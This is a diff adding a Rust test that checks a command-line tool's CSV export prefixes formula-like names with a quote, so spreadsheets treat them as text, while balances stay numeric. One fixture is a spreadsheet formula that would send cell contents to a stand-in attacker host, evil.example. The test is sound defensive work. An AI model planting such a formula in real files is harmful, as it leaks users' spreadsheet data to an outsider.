@@ -165,3 +165,37 @@ fn import_reports_every_bad_row_and_imports_nothing() {
     let v: serde_json::Value = serde_json::from_str(list.ok()).unwrap();
     assert_eq!(v.as_array().unwrap().len(), 2);
 }
+
+/// Issue 21: a name a spreadsheet would run as a formula is exported as text; the
+/// program's own numbers stay numbers.
+#[test]
+fn a_csv_export_never_hands_a_spreadsheet_a_formula() {
+    let t = Test::demo("zh-CN");
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
+    t.run(&["party", "add", "--name", formula, "--role", "tenant"])
+        .ok();
+    t.run(&["party", "add", "--name", "@SUM(1+1)", "--role", "tenant"])
+        .ok();
+    let csv = t
+        .run(&["party", "list", "--format", "csv"])
+        .ok()
+        .to_string();
+    let mut r = csv::Reader::from_reader(csv.as_bytes());
+    let names: Vec<String> = r
+        .records()
+        .map(|x| x.unwrap()[2].to_string())
+        .filter(|n| n.contains("HYPERLINK") || n.contains("SUM"))
+        .collect();
+    assert_eq!(names.len(), 2, "{csv}");
+    for n in &names {
+        assert!(n.starts_with('\''), "{n} would run as a formula");
+    }
+    // A balance the program writes stays a number a spreadsheet can add.
+    t.run(&["pay", "A-1203", "100000"]).ok();
+    let ledger = t
+        .run(&["ledger", "A-1203", "--format", "csv"])
+        .ok()
+        .to_string();
+    assert!(ledger.contains(",-"), "{ledger}");
+    assert!(!ledger.contains(",'-"), "{ledger}");
+}
